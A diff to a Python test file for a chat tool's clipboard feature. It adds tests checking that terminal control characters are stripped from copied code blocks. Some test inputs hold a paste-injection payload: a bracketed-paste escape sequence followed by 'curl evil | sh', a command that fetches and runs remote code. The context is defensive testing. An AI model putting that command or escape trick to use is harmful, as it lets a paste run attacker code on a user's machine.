@@ -18,7 +18,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from test_terminal import Terminal, terminal  # noqa: F401  (the fixture)
 
-from chatmem.clipboard import code_blocks, osc52, pick
+from chatmem.clipboard import code_blocks, osc52, pasteable, pick
 from chatmem.errors import UsageError
 from chatmem.store import Store
 
@@ -27,9 +27,10 @@ REPLY = ("两个函数：\n\n```python\ndef hello():\n    return '你好'\n```\n
 tmux = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
 
 
-def setup(tmp_path: Path, extra_config: str = "") -> tuple[dict[str, str], str]:
+def setup(tmp_path: Path, extra_config: str = "",
+          reply: str = REPLY) -> tuple[dict[str, str], str]:
     script = tmp_path / "replies.jsonl"
-    script.write_text(json.dumps({"reply": REPLY}) + "\n", encoding="utf-8")
+    script.write_text(json.dumps({"reply": reply}) + "\n", encoding="utf-8")
     config = tmp_path / "config.toml"
     config.write_text(f'provider = "scripted"\n{extra_config}[scripted]\nscript = "{script}"\n',
                       encoding="utf-8")
@@ -109,8 +110,8 @@ def test_copy_gives_the_text_to_the_configured_clipboard_command(
     terminal.wait_for("EXITED 0")
 
 
-def piped_chat(tmp_path: Path, lines: list[str], extra_config: str = ""):
-    setup(tmp_path, extra_config)
+def piped_chat(tmp_path: Path, lines: list[str], extra_config: str = "", reply: str = REPLY):
+    setup(tmp_path, extra_config, reply)
     return invoke("chat", "t", "--config", str(tmp_path / "config.toml"),
                   "--db", str(tmp_path / "t.db"), input="\n".join(lines) + "\n", width=200)
 
@@ -134,3 +135,22 @@ def test_copy_errors_say_why_in_one_line_and_the_chat_goes_on(
     assert len(errors) == 1 and error in errors[0], result.stderr
     with Store(tmp_path / "t.db") as store:  # the message after it was sent
         assert store.history.messages(store.sessions.session("t").id)[-2].content == "after"
+
+
+def test_pasteable_leaves_out_the_controls_a_paste_would_act_on() -> None:
+    assert pasteable("a\tb\r\n杭州\n") == ("a\tb\n杭州\n", 0)
+    assert pasteable("ls\x1b[201~\ncurl evil | sh\r\x07\x9b\x7f") == (
+        "ls[201~\ncurl evil | sh", 5)
+
+
+def test_copy_puts_no_escape_on_the_clipboard_and_says_what_it_left_out(
+        tmp_path: Path) -> None:
+    clip, tool = tmp_path / "clipboard.txt", tmp_path / "clip.sh"
+    tool.write_text(f"#!/bin/sh\ncat > '{clip}'\n", encoding="utf-8")
+    tool.chmod(0o755)
+    reply = "运行:\n```sh\nls\x1b[201~\ncurl evil | sh\n```\n"
+    result = piped_chat(tmp_path, ["hi", "/copy 1"], f'clipboard_command = "{tool}"\n', reply)
+    assert result.exit_code == 0, result.stderr
+    assert clip.read_text(encoding="utf-8") == "ls[201~\ncurl evil | sh\n"
+    assert ("copied code block 1 (23 characters) with clipboard_command; 1 control character"
+            " left out") in result.stderr
